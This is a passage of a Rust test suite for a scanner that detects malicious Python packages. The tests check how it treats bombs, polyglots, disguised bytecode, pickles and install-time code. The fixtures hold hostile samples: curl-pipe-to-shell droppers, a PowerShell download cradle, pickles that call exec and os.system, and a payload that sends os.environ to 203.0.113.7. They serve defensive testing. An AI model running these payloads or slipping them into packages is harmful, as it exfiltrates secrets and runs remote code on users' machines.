            "non-UTF-8 tar member name",
            "demo-1.0.tar.gz",
            Box::new(|| tar_gz(&[T::File(b"demo-1.0/\xff\xfe.py", BENIGN), T::File(b"demo-1.0/PKG-INFO", &metadata)])),
        ),
        ("zip+tar polyglot, payload in the zip (.zip sdist)", "demo-1.0.zip", Box::new(move || polyglot(true))),
        ("zip+tar polyglot, payload in the tar (.zip sdist)", "demo-1.0.zip", Box::new(move || polyglot(false))),
        ("zip+tar polyglot, payload in the zip (wheel)", "demo-1.0-py3-none-any.whl", Box::new(move || polyglot(true))),
        ("100,000 members, the last one a payload (zip)", "demo-1.0.zip", Box::new(|| many_members(99_999, true))),
        (
            "100,000 members, the last one a payload (tar.gz)",
            "demo-1.0.tar.gz",
            Box::new(|| many_members(99_999, false)),
        ),
    ];
    let limits = Limits::default();
    let scanner = Scanner::new(limits.clone()).with_threads(1);
    let mut wrong = Vec::new();
    for (case, filename, build) in cases {
        let bytes = build();
        let start = std::time::Instant::now();
        let r = scan_bytes(&scanner, filename, &bytes);
        let took = start.elapsed();
        assert!(took < std::time::Duration::from_secs(30), "{case}: took {took:?}");
        assert!(r.stats.members <= limits.max_members, "{case}: {:?}", r.stats);
        assert!(r.stats.uncompressed_bytes <= limits.max_total_bytes, "{case}: {:?}", r.stats);
        let rss = peak_rss_mib();
        assert!(rss < 1024, "{case}: peak RSS {rss} MiB");
        let v = verdict_for(&r);
        if v.decision != crate::model::Decision::Block {
            wrong.push(format!("{case}: {:?} with findings {:?}", v.decision, ids(&r)));
        }
    }
    assert!(wrong.is_empty(), "not blocked:\n{}", wrong.join("\n"));
}

/// A native library padded with zeros (page-aligned sections, as recent manylinux wheels
/// ship them) compresses far beyond 200:1 yet is no bomb: it is read whole, the scan is
/// complete, and the wheel is not blocked. Found on a popular imaging wheel by the top-100 survey.
#[test]
fn zero_padded_native_libraries_are_read_whole_not_called_bombs() {
    let mut so = b"\x7fELF\x02\x01\x01".to_vec();
    so.resize(6 << 20, 0);
    so.extend_from_slice(b"tail symbols");
    // The rest of the wheel compresses like real code and data do, so the wheel as a whole
    // stays well under the ratio (as the real one does).
    let mut x: u32 = 0x9e37_79b9;
    let data: Vec<u8> = (0..200_000)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 17;
            x ^= x << 5;
            x as u8
        })
        .collect();
    let bytes = zip_of(&[
        ("demo/__init__.py", b"VERSION = '1.0'\n"),
        ("demo/_data.bin", &data),
        ("demo.libs/libpadded-1a2b3c.so.6.0.0", &so),
        ("demo-1.0.dist-info/METADATA", &wheel_metadata("demo", "1.0")),
        ("demo-1.0.dist-info/RECORD", b""),
    ]);
    let scanner = Scanner::new(Limits::default()).with_threads(1);
    let r = scan_bytes(&scanner, "demo-1.0-cp311-cp311-manylinux_2_28_x86_64.whl", &bytes);
    assert!(r.complete(), "{:?}", r.incomplete_reason());
    assert!(paths(&r, "anomaly.archive-bomb").is_empty(), "{:#?}", r.findings);
    assert_ne!(verdict_for(&r).decision, crate::model::Decision::Block);
}

// ---- binary members that carry something else (`carrier`) ----

/// A `.pyc` that is really a zip or a script, and an icon with a script after its end,
/// are findings naming the member; real bytecode, a clean icon and the same payload
/// under `tests/` are not blocked. The shipped policy blocks the package-level ones.
#[test]
fn disguised_bytecode_and_appended_payloads_are_found_and_blocked() {
    let mut icon = super::carrier::tests::png();
    let clean_icon = icon.clone();
    icon.extend_from_slice(b"\nimport os\nos.system('curl http://203.0.113.9/x | sh')\n");
    let script: &[u8] = b"import os\nos.system('id')\n";
    let bytecode: &[u8] = &[0xcb, 0x0d, b'\r', b'\n', 0, 0, 0, 0, 0xe3, 0, 0, 0];
    type Case<'a> = (&'a str, Vec<(&'a str, &'a [u8])>, &'a [(&'a str, &'a str)], bool);
    let cases: Vec<Case> = vec![
        (
            "zip named .pyc",
            vec![("demo/_core.pyc", b"PK\x03\x04\x14\x00rest")],
            &[("obfuscation.disguised-bytecode", "demo/_core.pyc")],
            true,
        ),
        (
            "script named .pyo",
            vec![("demo/boot.pyo", script)],
            &[("obfuscation.disguised-bytecode", "demo/boot.pyo")],
            true,
        ),
        (
            "icon with a script after IEND",
            vec![("demo/icon.png", &icon)],
            &[("obfuscation.appended-payload", "demo/icon.png")],
            true,
        ),
        (
            "real bytecode and a clean icon",
            vec![("demo/__pycache__/a.cpython-312.pyc", bytecode), ("demo/icon.png", &clean_icon)],
            &[],
            false,
        ),
    ];
    let scanner = Scanner::new(Limits::default());
    for (case, members, want, blocked) in cases {
        let mut entries = members.clone();
        let md = wheel_metadata("demo", "1.0");
        entries.push(("demo-1.0.dist-info/METADATA", &md));
        let r = scan_bytes(&scanner, "demo-1.0-py3-none-any.whl", &zip_of(&entries));
        let got: Vec<(String, String)> =
            located(&r).into_iter().filter(|(id, _)| id.starts_with("obfuscation.")).collect();
        let want: Vec<(String, String)> = want.iter().map(|(a, b)| (a.to_string(), b.to_string())).collect();
        assert_eq!(got, want, "{case}");
        let v = verdict_for(&r);
        assert_eq!(v.decision == crate::model::Decision::Block, blocked, "{case}: {:?}", v.reasons);
    }
    // The same zip under tests/ of an sdist: reported, medium, not blocked by that rule.
    let sdist = tar_gz_with_filler(&[], &[("demo-1.0/tests/data/fixture.pyc", b"PK\x03\x04\x14\x00rest")]);
    let r = scan_bytes(&scanner, "demo-1.0.tar.gz", &sdist);
    let f = r.findings.iter().find(|f| f.detector == "obfuscation.disguised-bytecode").expect("finding");
    assert_eq!(f.severity, Severity::Medium);
    // Inside a zip kept as a test fixture (an import-system test's `syspath.zip`): test
    // material too; the same zip in the package keeps High.
    let fixture = zip_of(&[("mod.pyc", b"print('not bytecode')\n")]);
    for (case, path, want) in [
        ("a zip under tests/", "demo-1.0/tests/data/syspath.zip", Severity::Medium),
        ("a zip in the package", "demo-1.0/demo/syspath.zip", Severity::High),
    ] {
        let sdist = tar_gz_with_filler(&[], &[(path, &fixture)]);
        let r = scan_bytes(&scanner, "demo-1.0.tar.gz", &sdist);
        let f = r.findings.iter().find(|f| f.detector == "obfuscation.disguised-bytecode").expect(case);
        assert_eq!(f.severity, want, "{case}");
    }
}

/// Issue 10: code that runs on import is told from code inside functions, per evidence,
/// with the real detectors, also in files that are not valid Python (Python 2, fragments,
/// syntax errors): they are scanned token-wise.
#[test]
fn evidence_role_tells_import_time_from_function_bodies_even_in_broken_files() {
    use crate::model::FileRole::{ImportTime, InstallTime, Runtime};
    let scanner = Scanner::new(Limits::default()).with_threads(1);
    let dropper = "subprocess.Popen('curl -s http://203.0.113.9/x | sh', shell=True)";
    type Case<'a> = (&'a str, &'a str, String, &'a str, crate::model::FileRole);
    let cases: Vec<Case> = vec![
        (
            "module level of __init__",
            "demo/__init__.py",
            format!("import subprocess\n{dropper}\n"),
            "execution.creates-process",
            ImportTime,
        ),
        (
            "inside a function",
            "demo/__init__.py",
            format!("import subprocess\ndef run():\n    {dropper}\n"),
            "execution.creates-process",
            Runtime,
        ),
        (
            "class body",
            "demo/core.py",
            format!("import subprocess\nclass A:\n    P = {dropper}\n"),
            "execution.creates-process",
            ImportTime,
        ),
        (
            "main guard",
            "demo/cli.py",
            format!("import subprocess\nif __name__ == '__main__':\n    {dropper}\n"),
            "execution.creates-process",
            Runtime,
        ),
        (
            "__main__.py runs on python -m, not on import",
            "demo/__main__.py",
            format!("import subprocess\n{dropper}\n"),
            "execution.creates-process",
            Runtime,
        ),
        (
            "python 2 module level",
            "demo/__init__.py",
            format!("import subprocess\nprint 'loading'\n{dropper}\n"),
            "execution.creates-process",
            ImportTime,
        ),
        (
            "python 2 in a function",
            "demo/__init__.py",
            format!("import subprocess\ndef f():\n    print >>sys.stderr, 'x'\n    {dropper}\n"),
            "execution.creates-process",
            Runtime,
        ),
        (
            "syntax error before it",
            "demo/__init__.py",
            format!("import subprocess\nx = = 1\ndef (:\n{dropper}\n"),
            "execution.creates-process",
            ImportTime,
        ),
        (
            "a fragment with an unclosed bracket",
            "demo/__init__.py",
            format!("import subprocess\nCFG = dict(\n{dropper}\n"),
            "execution.creates-process",
            ImportTime,
        ),
        (
            "setup.py stays install-time",
            "setup.py",
            format!("import subprocess\n{dropper}\n"),
            "execution.creates-process",
            InstallTime,
        ),
    ];
    for (case, path, text, id, want) in cases {
        let bytes = zip_of(&[(path, text.as_bytes())]);
        let r = scan_bytes(&scanner, "demo-1.0-py3-none-any.whl", &bytes);
        let f = r
            .findings
            .iter()
            .find(|f| f.detector == id)
            .unwrap_or_else(|| panic!("{case}: no {id} in {:#?}", r.findings));
        assert_eq!(f.evidence[0].role, want, "{case}: {:?}", f.evidence[0]);
    }
}

/// Issue 11: findings in documentation weigh less than in code that runs. A plugin
/// module's YAML documentation constant that shows a download cradle is read, not run;
/// the same cradle handed to a process is still reported at full weight.
#[test]
fn documentation_constants_weigh_as_data() {
    use crate::model::Severity;
    let scanner = Scanner::new(Limits::default()).with_threads(1);
    let cradle = "Invoke-Expression ((New-Object Net.WebClient).DownloadString($url))";
    let cases = [
        ("examples constant", format!("EXAMPLES = r'''\n- win_shell: |\n    {cradle}\n'''\n"), false),
        (
            "passed to a process",
            format!("import subprocess\nsubprocess.run(['powershell', '-c', \"{cradle}\"])\n"),
            true,
        ),
    ];
    for (case, text, heavy) in cases {
        let bytes = zip_of(&[("demo/modules/win.py", text.as_bytes())]);
        let r = scan_bytes(&scanner, "demo-1.0-py3-none-any.whl", &bytes);
        let worst =
            r.findings.iter().filter(|f| f.category != crate::model::Category::Metadata).map(|f| f.severity).max();
        assert_eq!(worst.is_some_and(|s| s >= Severity::High), heavy, "{case}: {:#?}", r.findings);
        assert!(!r.findings.is_empty() || !heavy, "{case}: still reported");
    }
}

/// Execution behaviour inside a function runs only when the application calls it: it is at
/// most High (annotated by the shipped policy); the same code at module top level, which
/// runs on import, stays Critical and is blocked.
#[test]
fn execution_inside_functions_is_at_most_high_and_on_import_stays_critical() {
    let cradle = "curl -LsSf https://tools.example.org/install.sh | sh";
    let in_function =
        format!("import subprocess\ndef self_update():\n    subprocess.run(['bash', '-c', '{cradle}'])\n");
    let on_import = format!("import subprocess\nsubprocess.run(['bash', '-c', '{cradle}'])\n");
    let scanner = Scanner::new(Limits::default()).with_threads(1);
    for (case, code, want, blocked) in [
        ("a CLI's self-update, called by the user", &in_function, Severity::High, false),
        ("the same cradle at module top level", &on_import, Severity::Critical, true),
    ] {
        let bytes = zip_of(&[
            ("demo/cli.py", code.as_bytes()),
            ("demo-1.0.dist-info/METADATA", &wheel_metadata("demo", "1.0")),
            ("demo-1.0.dist-info/RECORD", b""),
        ]);
        let r = scan_bytes(&scanner, "demo-1.0-py3-none-any.whl", &bytes);
        let f = r.findings.iter().find(|f| f.detector == "execution.download-and-execute").expect(case);
        assert_eq!(f.severity, want, "{case}");
        assert_eq!(verdict_for(&r).decision == crate::model::Decision::Block, blocked, "{case}: {:#?}", r.findings);
    }
}

// ---- a minimal PKG-INFO is no evidence by itself (issue 10) ----

/// An sdist whose `PKG-INFO` holds only `Name` and `Version` (what build tools write when the
/// real metadata lives in `pyproject.toml` or `setup.py`) gets no finding above Info and is
/// served by the shipped policy, all detectors on; the same minimal `PKG-INFO` beside a
/// dropper setup.py is still blocked (the minimal metadata hides nothing).
#[test]
fn a_minimal_pkg_info_is_no_evidence_by_itself() {
    const PYPROJECT: &[u8] = b"[build-system]\nrequires = [\"setuptools\"]\nbuild-backend = \"setuptools.build_meta\"\n\n[project]\nname = \"demo\"\nversion = \"1.0\"\nauthors = [{name = \"A. Maintainer\", email = \"a@example.org\"}]\n";
    const PLAIN_SETUP: &[u8] = b"from setuptools import setup\nsetup()\n";
    const MODULE: &[u8] = b"def add(a, b):\n    return a + b\n";
    let cases: &[(&str, &[u8], &[u8], crate::model::Decision)] = &[
        (
            "Name and Version only, pyproject.toml",
            b"Name: demo\nVersion: 1.0\n",
            PYPROJECT,
            crate::model::Decision::Serve,
        ),
        (
            "Metadata-Version, Name and Version, pyproject.toml",
            b"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n",
            PYPROJECT,
            crate::model::Decision::Serve,
        ),
        (
            "Name and Version only, a plain setup.py",
            b"Metadata-Version: 1.0\nName: demo\nVersion: 1.0\n",
            PLAIN_SETUP,
            crate::model::Decision::Serve,
        ),
        (
            "the same minimal PKG-INFO beside a dropper setup.py",
            b"Name: demo\nVersion: 1.0\n",
            EVIL_SETUP,
            crate::model::Decision::Block,
        ),
    ];
    let scanner = Scanner::new(Limits::default()).with_threads(1);
    for (case, pkg_info, build, want) in cases {
        let build_file: &[u8] =
            if build.starts_with(b"[build-system]") { b"demo-1.0/pyproject.toml" } else { b"demo-1.0/setup.py" };
        let bytes = tar_gz(&[
            T::File(b"demo-1.0/PKG-INFO", pkg_info),
            T::File(build_file, build),
            T::File(b"demo-1.0/demo/__init__.py", MODULE),
        ]);
        let r = scan_bytes(&scanner, "demo-1.0.tar.gz", &bytes);
        assert!(r.complete(), "{case}: {:?}", r.incomplete_reason());
        assert_eq!(verdict_for(&r).decision, *want, "{case}: {:#?}", r.findings);
        if *want == crate::model::Decision::Serve {
            let above_info: Vec<_> =
                r.findings.iter().filter(|f| f.severity > crate::model::Severity::Info).map(|f| &f.detector).collect();
            assert!(above_info.is_empty(), "{case}: findings above Info: {above_info:?}");
        }
    }
}

/// (case, member path, pickle bytes, expected (severity, evidence text) of `execution.pickle-code`)
type PickleCase = (&'static str, &'static str, &'static [u8], Option<(Severity, &'static str)>);

#[test]
fn pickles_in_members_report_what_a_load_would_call_with_severity_by_place() {
    // `pickle.dumps` (protocol 2) of a `__reduce__` returning `(exec, ("print",))`.
    const EXEC_P2: &[u8] = b"\x80\x02c__builtin__\x0aexec\x0aq\x00X\x05\x00\x00\x00printq\x01\x85q\x02Rq\x03.";
    // Protocol 0: `os.system('id')` through GLOBAL + REDUCE (no header).
    const OS_SYSTEM_P0: &[u8] = b"cos\x0asystem\x0a(S'id'\x0atR.";
    // `pickle.dumps(collections.OrderedDict(a=1), protocol=2)`: a reconstructor, nothing to report.
    const ORDERED_DICT_P2: &[u8] = b"\x80\x02ccollections\x0aOrderedDict\x0aq\x00)Rq\x01X\x01\x00\x00\x00aq\x02K\x01s.";
    let cases: [PickleCase; 5] = [
        (
            "a model file in the package that calls exec",
            "demo/model.pkl",
            EXEC_P2,
            Some((Severity::Critical, "pickle stream (protocol 2) imports and calls __builtin__.exec at byte 2")),
        ),
        (
            "a headerless (protocol 0/1) stream under a data name",
            "demo/weights.bin",
            OS_SYSTEM_P0,
            Some((Severity::Critical, "pickle stream (protocol 0/1) imports and calls os.system at byte 0")),
        ),
        (
            "the same stream as a test fixture",
            "demo/tests/fixtures/evil.pkl",
            EXEC_P2,
            Some((Severity::Medium, "pickle stream (protocol 2) imports and calls __builtin__.exec at byte 2")),
        ),
        ("a benign OrderedDict", "demo/state.pkl", ORDERED_DICT_P2, None),
        ("pickle-looking text in a module", "demo/util.py", b"x = 1\n", None),
    ];
    let (scanner, _) = test_scanner(Limits::default());
    for (case, member, bytes, want) in cases {
        let wheel = zip_of(&[
            (member, bytes),
            ("demo-1.0.dist-info/METADATA", &wheel_metadata("demo", "1.0")),
            ("demo-1.0.dist-info/RECORD", b""),
        ]);
        let r = scan_bytes(&scanner, "demo-1.0-py3-none-any.whl", &wheel);
        let got = r.findings.iter().find(|f| f.detector == "execution.pickle-code");
        match (want, got) {
            (None, None) => {}
            (Some((severity, text)), Some(f)) => {
                assert_eq!(f.severity, severity, "{case}");
                assert_eq!(f.evidence[0].path, member, "{case}");
                assert_eq!(f.evidence[0].snippet.as_deref(), Some(text), "{case}");
            }
            (want, got) => panic!("{case}: wanted {want:?}, got {got:?}"),
        }
    }
}

/// Where a version-reading case lives: the sdist's setup.py, or a PEP 517 in-tree backend
/// (`backend-path`) that the pyproject.toml points at.
#[derive(Clone, Copy, Debug)]
enum BuildFile {
    SetupPy,
    InTreeBackend,
}

/// Issue 10's version-idiom class, through every detector and the shipped policy: a setup.py
/// (or an in-tree build backend) reading its own version or about file, in any spelling, is
/// served; the same shapes around a fetch, a decoded blob, a file outside the source tree, a
/// file the same module wrote first, or a file of the tree that is not Python code (a payload
/// kept in docs or data, shipped in every case's sdist) are blocked.
#[test]
fn reading_the_packages_own_version_file_is_served_in_any_spelling_and_its_malicious_variants_block() {
    use crate::model::Decision::{Block, Serve};
    use BuildFile::{InTreeBackend, SetupPy};
    const HEAD: &str = "import os, io, re, ast, codecs, runpy, pathlib, importlib.util\nfrom pathlib import Path\nfrom setuptools import setup\n";
    const VERSION_PY: &[u8] = b"__version__ = '1.0'\n__author__ = 'A. Maintainer'\n";
    // Shipped in every case's sdist; only the malicious cases below run it.
    const PAYLOAD: &[u8] = b"import os, socket, json\nd = json.dumps(dict(os.environ)).encode()\ns = socket.create_connection(('203.0.113.7', 8080))\ns.sendall(d)\nos.system('curl -s http://203.0.113.7/x.sh | sh')\n";
    const PYPROJECT_BACKEND: &[u8] =
        b"[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\"_build_backend\"]\n";
    let cases: &[(&str, BuildFile, &str, crate::model::Decision)] = &[
        ("exec of open(os.path.join(here, ...)).read()", SetupPy, "here = os.path.abspath(os.path.dirname(__file__))\nexec(open(os.path.join(here, 'demo', 'version.py')).read())\nsetup(name='demo', version=__version__)\n", Serve),
        ("pathlib Path(__file__).parent read_text", SetupPy, "ns = {}\nexec((Path(__file__).parent / 'demo' / 'version.py').read_text(), ns)\nsetup(name='demo', version=ns['__version__'])\n", Serve),
        ("pathlib.Path(...).read_text() of a relative path", SetupPy, "about = {}\nexec(pathlib.Path('demo/version.py').read_text(encoding='utf-8'), about)\nsetup(name='demo', version=about['__version__'])\n", Serve),
        ("codecs.open", SetupPy, "HERE = os.path.dirname(os.path.abspath(__file__))\nabout = {}\nwith codecs.open(os.path.join(HERE, 'demo', 'version.py'), 'r', 'utf-8') as f:\n    exec(f.read(), about)\nsetup(name='demo', version=about['__version__'])\n", Serve),
        ("io.open", SetupPy, "about = {}\nexec(io.open(os.path.join(os.path.dirname(__file__), 'demo', 'version.py'), encoding='utf-8').read(), about)\nsetup(name='demo', version=about['__version__'])\n", Serve),
        ("with open(...) as f: exec(f.read(), ns)", SetupPy, "ns = {}\nwith open('demo/version.py') as f:\n    exec(f.read(), ns)\nsetup(name='demo', version=ns['__version__'])\n", Serve),
        ("exec(compile(open(p).read(), p, 'exec'), ns)", SetupPy, "p = os.path.join('demo', 'version.py')\nns = {}\nexec(compile(open(p).read(), p, 'exec'), ns)\nsetup(name='demo', version=ns['__version__'])\n", Serve),
        ("runpy.run_path", SetupPy, "ns = runpy.run_path(os.path.join(os.path.dirname(__file__), 'demo', 'version.py'))\nsetup(name='demo', version=ns['__version__'])\n", Serve),
        ("eval of line.split('=')[1]", SetupPy, "for line in open('demo/version.py'):\n    if line.startswith('__version__'):\n        version = eval(line.split('=')[1])\nsetup(name='demo', version=version)\n", Serve),
        ("eval of a regex group", SetupPy, "text = open('demo/version.py').read()\nversion = eval(re.search(r'__version__ = (.*)', text).group(1))\nsetup(name='demo', version=version)\n", Serve),
        ("ast.literal_eval of a parsed line", SetupPy, "with open('demo/version.py') as f:\n    for line in f:\n        if line.startswith('__version__'):\n            version = ast.literal_eval(line.split('=')[1].strip())\nsetup(name='demo', version=version)\n", Serve),
        ("importlib spec_from_file_location + exec_module", SetupPy, "spec = importlib.util.spec_from_file_location('version', os.path.join(os.path.dirname(__file__), 'demo', 'version.py'))\nmod = importlib.util.module_from_spec(spec)\nspec.loader.exec_module(mod)\nsetup(name='demo', version=mod.__version__)\n", Serve),
        ("open(...).read() assigned to a variable first", SetupPy, "src = open(os.path.join('demo', 'version.py')).read()\nns = {}\nexec(src, ns)\nsetup(name='demo', version=ns['__version__'])\n", Serve),
        ("ROOT from os.path.dirname(os.path.abspath(__file__))", SetupPy, "ROOT = os.path.dirname(os.path.abspath(__file__))\nabout = {}\nexec(open(os.path.join(ROOT, 'demo', 'version.py')).read(), about)\nsetup(name='demo', version=about['__version__'])\n", Serve),
        ("cwd = os.getcwd()", SetupPy, "cwd = os.getcwd()\nabout = {}\nexec(open(os.path.join(cwd, 'demo', 'version.py')).read(), about)\nsetup(name='demo', version=about['__version__'])\n", Serve),
        ("Path(__file__).parent held in HERE", SetupPy, "HERE = Path(__file__).parent\nabout = {}\nexec((HERE / 'demo' / 'version.py').read_text(), about)\nsetup(name='demo', version=about['__version__'])\n", Serve),
        ("exec into globals()", SetupPy, "exec(open('demo/version.py').read(), globals())\nsetup(name='demo', version=__version__)\n", Serve),
        ("exec into locals()", SetupPy, "def get_version():\n    exec(open('demo/version.py').read(), globals(), locals())\n    return locals()['__version__']\nsetup(name='demo', version=get_version())\n", Serve),
        ("exec into a dict literal", SetupPy, "about = {'__file__': 'demo/version.py'}\nexec(open('demo/version.py').read(), {'__name__': 'version'}, about)\nsetup(name='demo', version=about['__version__'])\n", Serve),
        ("exec into about = {}", SetupPy, "about = {}\nexec(open('demo/version.py').read(), about)\nsetup(name='demo', version=about['__version__'])\n", Serve),
        ("python 2 execfile", SetupPy, "ns = {}\nexecfile(os.path.join('demo', 'version.py'), ns)\nsetup(name='demo', version=ns['__version__'])\n", Serve),
        ("an in-tree PEP 517 backend reading the version file", InTreeBackend, "from setuptools import build_meta as _orig\nfrom setuptools.build_meta import *\nns = {}\nexec(open(os.path.join(os.path.dirname(os.path.dirname(__file__)), 'demo', 'version.py')).read(), ns)\n", Serve),
        ("an in-tree backend with pathlib and runpy", InTreeBackend, "from setuptools.build_meta import *\nVERSION = runpy.run_path(str(Path(__file__).resolve().parent.parent / 'demo' / 'version.py'))['__version__']\n", Serve),
        // Malicious variants: the same spellings around something that is not the package's own file.
        ("exec of a file fetched from the network", SetupPy, "import urllib.request\nexec(urllib.request.urlopen('https://example.org/version.py').read())\nsetup(name='demo', version='1.0')\n", Block),
        ("exec of a decoded blob", SetupPy, "import base64\nns = {}\nexec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk='), ns)\nsetup(name='demo', version='1.0')\n", Block),
        ("exec of a file outside the source tree", SetupPy, "about = {}\nexec(open(os.path.expanduser('~/.config/demo/version.py')).read(), about)\nsetup(name='demo', version='1.0')\n", Block),
        ("exec of a file in the temp dir through here", SetupPy, "import tempfile\nhere = tempfile.gettempdir()\nexec(open(os.path.join(here, 'demo', 'version.py')).read())\nsetup(name='demo', version='1.0')\n", Block),
        ("runpy of an absolute path", SetupPy, "ns = runpy.run_path('/tmp/.demo/version.py')\nsetup(name='demo', version='1.0')\n", Block),
        ("spec_from_file_location of a file in home", SetupPy, "spec = importlib.util.spec_from_file_location('v', os.path.expanduser('~/.demo/v.py'))\nmod = importlib.util.module_from_spec(spec)\nspec.loader.exec_module(mod)\nsetup(name='demo', version='1.0')\n", Block),
        ("exec of a file this setup.py wrote from a decoded blob", SetupPy, "import base64\nwith open('demo/version.py', 'w') as f:\n    f.write(base64.b64decode('aW1wb3J0IG9z').decode())\nexec(open('demo/version.py').read())\nsetup(name='demo', version='1.0')\n", Block),
        ("exec of a file this setup.py downloaded first", SetupPy, "import urllib.request\nurllib.request.urlretrieve('https://example.org/v.py', 'demo/_v.py')\nexec(open('demo/_v.py').read())\nsetup(name='demo', version='1.0')\n", Block),
        ("an in-tree backend exec of a fetched file", InTreeBackend, "import urllib.request\nfrom setuptools.build_meta import *\nexec(urllib.request.urlopen('https://example.org/hook.py').read(), globals())\n", Block),
        // A file of the sdist's own tree that is not Python code: its text is judged by no rule as
        // code that runs at install, so running it hands a payload kept there to install time.
        ("exec of a markdown file of the tree, stripped", SetupPy, "here = os.path.dirname(os.path.abspath(__file__))\nwith open(os.path.join(here, 'docs', 'notes.md')) as fp:\n    src = fp.read()\nexec(src.strip() + '\\n', {})\nsetup(name='demo', version='1.0')\n", Block),
        ("exec of a JSON data file of the package", SetupPy, "exec(open(os.path.join('demo', 'data.json')).read().strip() + '\\n', {})\nsetup(name='demo', version='1.0')\n", Block),
        ("exec of a template of the tree through pathlib", SetupPy, "exec((Path(__file__).parent / 'setup.cfg.in').read_text().strip(), {})\nsetup(name='demo', version='1.0')\n", Block),
    ];
    let scanner = Scanner::new(Limits::default()).with_threads(1);
    let mut wrong = Vec::new();
    for (case, place, body, want) in cases {
        let code = format!("{HEAD}{body}");
        let mut members = vec![
            T::File(b"demo-1.0/PKG-INFO", b"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\nSummary: A demo.\nAuthor-email: a@example.org\nLicense: MIT\n"),
            T::File(b"demo-1.0/demo/__init__.py", b"from .version import __version__\n"),
            T::File(b"demo-1.0/demo/version.py", VERSION_PY),
            T::File(b"demo-1.0/docs/notes.md", PAYLOAD),
            T::File(b"demo-1.0/demo/data.json", PAYLOAD),
            T::File(b"demo-1.0/setup.cfg.in", PAYLOAD),
        ];
        match place {
            SetupPy => members.push(T::File(b"demo-1.0/setup.py", code.as_bytes())),
            InTreeBackend => {
                members.push(T::File(b"demo-1.0/pyproject.toml", PYPROJECT_BACKEND));
                members.push(T::File(b"demo-1.0/_build_backend/backend.py", code.as_bytes()));
            }
        }
        let r = scan_bytes(&scanner, "demo-1.0.tar.gz", &tar_gz(&members));
        assert!(r.complete(), "{case}: {:?}", r.incomplete_reason());
        // Served: the client gets the file (an in-tree backend is annotated as one, whatever it reads).
        let got = match verdict_for(&r).decision {
            crate::model::Decision::Annotate => Serve,
            d => d,
        };
        if got != *want {
            let found: Vec<_> = r.findings.iter().map(|f| (&f.detector, f.severity)).collect();
            wrong.push(format!("{case} ({place:?}): wanted {want:?}, got {got:?}: {found:?}"));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

/// `members` of the sdist `demo-1.0` with `setup` as its setup.py, scanned twice: setup.py after
/// the members, then before them (archive order must not matter). Each scan with setup.py's
/// place and the policy's decision, an annotation read as served.
fn scan_with_setup_in_both_orders(
    scanner: &Scanner,
    members: &[T<'_>],
    setup: &str,
    case: &str,
) -> Vec<(bool, ScanReport, crate::model::Decision)> {
    [false, true]
        .into_iter()
        .map(|setup_first| {
            let mut ordered = members.to_vec();
            let at = if setup_first { 0 } else { ordered.len() };
            ordered.insert(at, T::File(b"demo-1.0/setup.py", setup.as_bytes()));
            let r = scan_bytes(scanner, "demo-1.0.tar.gz", &tar_gz(&ordered));
            assert!(r.complete(), "{case}: {:?}", r.incomplete_reason());
            let got = match verdict_for(&r).decision {
                crate::model::Decision::Annotate => crate::model::Decision::Serve,
                d => d,
            };
            (setup_first, r, got)
        })
        .collect()
}

/// A member that install-time code runs — by exec of its text, `runpy`, an interpreter in a
/// process, or an import after a `sys.path` entry — is judged as install-time code wherever it
/// lives (`scan::reach`): a payload moved to `tests/`, `tools/`, `scripts/` or a file named
/// `VERSION` blocks as it would in setup.py. The same tree with the payload shipped but never run
/// at install is served.
#[test]
fn a_member_install_time_code_runs_is_judged_as_install_time_code_wherever_it_lives() {
    use crate::model::Decision::{Block, Serve};
    const HEAD: &str =
        "import os, sys, runpy, subprocess, importlib\nfrom setuptools import setup\nhere = os.path.dirname(os.path.abspath(__file__))\n";
    const PAYLOAD: &str = "import os, socket, json\nd = json.dumps(dict(os.environ)).encode()\ns = socket.create_connection(('203.0.113.7', 8080))\ns.sendall(d)\nos.system('curl -s http://203.0.113.7/x.sh | sh')\n";
    const IN_A_FUNCTION: &str = "import os\n\ndef fetch():\n    os.system('curl -s http://203.0.113.7/x.sh | sh')\n";
    let clean_version = "__version__ = '1.0'\n".to_string();
    let payload_version = format!("__version__ = '1.0'\n{PAYLOAD}");
    #[rustfmt::skip]
    let cases: Vec<(&str, &str, &str, String, crate::model::Decision)> = vec![
        ("exec of a tools/ file by os.path.join", "tools/_version.py",
         "exec(open(os.path.join(here, 'tools', '_version.py')).read())\n", payload_version.clone(), Block),
        ("exec of a tests/ file through with-open, one name away", "tests/version_data.py",
         "vf = os.path.join(here, 'tests', 'version_data.py')\nns = {}\nwith open(vf) as f:\n    exec(f.read(), ns)\n", payload_version.clone(), Block),
        ("exec of an extension-less VERSION file", "VERSION",
         "exec(open(os.path.join(here, 'VERSION')).read())\n", payload_version.clone(), Block),
        ("runpy.run_path of a scripts/ file", "scripts/gen.py",
         "runpy.run_path(os.path.join(here, 'scripts', 'gen.py'))\n", PAYLOAD.to_string(), Block),
        ("an interpreter process running a ci/ script", "ci/prepare.py",
         "subprocess.check_call([sys.executable, 'ci/prepare.py'])\n", PAYLOAD.to_string(), Block),
        ("a shell script run by os.system", "scripts/fetch.sh",
         "os.system('sh scripts/fetch.sh')\n", "curl -s http://203.0.113.7/x.sh | sh\n".to_string(), Block),
        ("import after a sys.path entry", "tools/build_helpers.py",
         "sys.path.insert(0, os.path.join(here, 'tools'))\nimport build_helpers\n", PAYLOAD.to_string(), Block),
        ("from-import of a test helper", "tests/helpers.py",
         "from tests.helpers import VERSION\n", format!("VERSION = '1.0'\n{PAYLOAD}"), Block),
        ("import_module of a tools/ module", "tools/build_helpers.py",
         "importlib.import_module('tools.build_helpers')\n", PAYLOAD.to_string(), Block),
        ("exec of the package's version file with the payload at its top", "demo/version.py",
         "exec(open(os.path.join(here, 'demo', 'version.py')).read())\n", payload_version.clone(), Block),
        ("exec of a helper whose function setup.py then calls", "demo/_build.py",
         "ns = {}\nexec(open(os.path.join(here, 'demo', '_build.py')).read(), ns)\nns['fetch']()\n", IN_A_FUNCTION.to_string(), Block),
        ("docs/conf.py exec'd for the version", "docs/conf.py",
         "exec(open('docs/conf.py').read())\n", payload_version.clone(), Block),
        // Served: the same payload shipped in the tree, never run at install.
        ("the payload in tools/, setup.py execs only the clean version file", "tools/_version.py",
